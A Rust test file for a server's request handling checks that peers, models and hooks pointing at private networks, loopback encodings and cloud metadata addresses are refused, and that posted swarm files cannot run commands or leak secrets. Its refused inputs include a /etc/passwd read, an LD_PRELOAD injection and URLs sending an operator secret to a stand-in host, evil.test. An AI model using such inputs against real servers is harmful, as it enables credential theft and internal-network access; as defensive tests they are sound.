//! The server's own requests: callers cannot direct them into private networks.

use serde_json::{Value, json};

use crate::swarm::{Swarm, boss, team};

const CLOSED: [(&str, &str); 1] = [("POSTHASTE_PRIVATE_NETWORKS", "off")];

/// An address that the server must not connect to, and the listener that would see it.
fn trap() -> (String, std::net::TcpListener) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    (listener.local_addr().unwrap().to_string(), listener)
}

#[tokio::test]
async fn peers_and_systems_in_private_networks_are_not_reached_unless_allowed() {
    let (inside, listener) = trap();
    let port = inside.rsplit(':').next().unwrap().to_owned();
    let echo = json!({ "builtin": "echo" });
    let swarm = Swarm::open(&team("team", json!([boss(echo, &["boss"])])), &[], &CLOSED);
    let office = swarm.office.as_ref().unwrap();
    let hosts = [
        format!("127.0.0.1:{port}"),
        format!("localhost:{port}"),
        format!("[::ffff:127.0.0.1]:{port}"),
        format!("0.0.0.0:{port}"),
        format!("2130706433:{port}"),
        "169.254.169.254".to_owned(),
        "[fd00:ec2::254]".to_owned(),
    ];
    for host in &hosts {
        let peer = json!({ "name": "far", "base_url": format!("http://{host}"), "volatile": true });
        let (status, answer) = swarm.post("/swarms", office.token(), peer).await;
        assert!(matches!(status.as_u16(), 400 | 502), "{host}: {answer}");
        assert!(answer["detail"].as_str().unwrap().contains("private"), "{host}: {answer}");
        let call = json!({ "jsonrpc": "2.0", "id": 1, "method": "map/federation/connect",
            "params": { "systemId": "far", "endpoint": format!("ws://{host}/map") } });
        let http = swarm.http.post(format!("{}/map/rpc", swarm.url())).bearer_auth(office.token());
        let answer: Value = http.body(call.to_string()).send().await.unwrap().json().await.unwrap();
        assert_eq!(answer["error"]["code"], 5000, "{host}: {answer}");
        assert!(answer["error"]["message"].as_str().unwrap().contains("private"), "{host}: {answer}");
    }
    assert!(listener.accept().is_err(), "the server connected");
}

#[tokio::test]
async fn models_and_hooks_in_private_networks_are_not_reached() {
    let (inside, listener) = trap();
    let url = format!("http://{inside}/");
    for driver in [json!({ "http": url }), json!({ "model": { "url": url, "name": "m" } })] {
        let swarm = Swarm::open(&team("team", json!([boss(driver, &["boss"])])), &[], &CLOSED);
        let office = swarm.office.as_ref().unwrap();
        // The agent cannot answer; the task fails or continues without it.
        let ask = json!({ "body": "hello", "timeout": 2 });
        drop(swarm.post("/message", office.token(), ask).await);
        assert!(listener.accept().is_err(), "the server connected");
    }
}

#[tokio::test]
async fn posted_swarm_gets_only_programs_and_secrets_of_the_operators_file() {
    let echo = json!({ "builtin": "echo" });
    let command = json!({ "command": ["true"] });
    let hand = json!({ "name": "hand", "driver": command, "comm_targets": ["boss"] });
    let file = team("team", json!([boss(echo.clone(), &["hand"]), hand]));
    let swarm = Swarm::open(&file, &[], &[("SECRET", "hush")]);
    let office = swarm.office.as_ref().unwrap();
    let posted = async |driver: Value| {
        let hand = json!({ "name": "hand", "driver": driver, "comm_targets": ["boss"] });
        let file = team("team", json!([boss(echo.clone(), &["hand"]), hand]));
        swarm.post("/swarms/load", office.token(), json!({ "json": file.to_string() })).await
    };
    let refused = [
        json!({ "command": ["cat", "/etc/passwd"] }),
        json!({ "command": ["true"], "env": { "LD_PRELOAD": "/tmp/x.so" } }),
        json!({ "http": "http://evil.test/", "token_env": "SECRET" }),
        json!({ "model": { "url": "http://evil.test/", "name": "m", "key_env": "SECRET" } }),
        json!({ "model": { "url": "http://evil.test/${SECRET}", "name": "m" } }),
        json!({ "model": { "url": "http://evil.test/", "name": "${SECRET}" } }),
    ];
    for driver in refused {
        let (status, answer) = posted(driver.clone()).await;
        assert_eq!(status.as_u16(), 400, "{driver}: {answer}");
        assert!(!answer.to_string().contains("hush"), "{answer}");
    }
    for driver in [json!({ "command": ["true"] }), json!({ "http": "http://elsewhere.test/" })] {
        let (status, answer) = posted(driver.clone()).await;
        assert_eq!(status.as_u16(), 200, "{driver}: {answer}");
    }
}
